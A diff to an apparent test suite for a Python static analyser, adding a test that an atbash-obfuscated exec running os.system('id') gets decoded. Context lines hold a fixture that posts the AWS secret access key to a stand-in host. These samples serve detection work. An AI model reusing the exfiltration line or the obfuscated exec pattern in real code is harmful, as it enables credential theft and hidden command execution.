@@ -128,3 +128,18 @@ test('lists built with append in a decoding loop fold, and appended taint follow
   const g = await facts("import os, requests\nparts = []\nparts.append(os.environ['AWS_SECRET_ACCESS_KEY'])\nrequests.post('https://x.example.invalid', data=parts)\n");
   assert.ok(g.sinks.some((s) => s.sources.some((l) => l.includes('AWS_SECRET_ACCESS_KEY'))), JSON.stringify(g.sinks.map((s) => s.sources)));
 });
+
+test('a substitution cipher over string.ascii_letters (atbash) decodes: index lookups, membership and conditional picks', async () => {
+  const atbash = (s: string): string => {
+    const a = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ';
+    const r = [...a].reverse().join('');
+    return [...s].map((c) => (a.includes(c) ? r[a.indexOf(c)] : c)).join('');
+  };
+  const hidden = atbash("import os;os.system('id')");
+  const f = await facts(`import string\na_l=string.ascii_letters\nr_l=a_l[::-1]\nexec("".join([r_l[a_l.index(c)] if c in r_l else c for c in ${JSON.stringify(hidden)}]))\n`);
+  assert.equal(f.execs[0]?.code, "import os;os.system('id')");
+  assert.ok(f.commands.some((c) => c.cmd === 'id'));
+  // Comparisons of constants decide a conditional; anything else keeps the first branch.
+  const g = await facts("exec('a' if 2 < 1 else 'b')\nexec('c' if 'x' not in 'xyz' else 'd')\n");
+  assert.deepEqual(g.execs.map((e) => e.code), ['b', 'd']);
+});
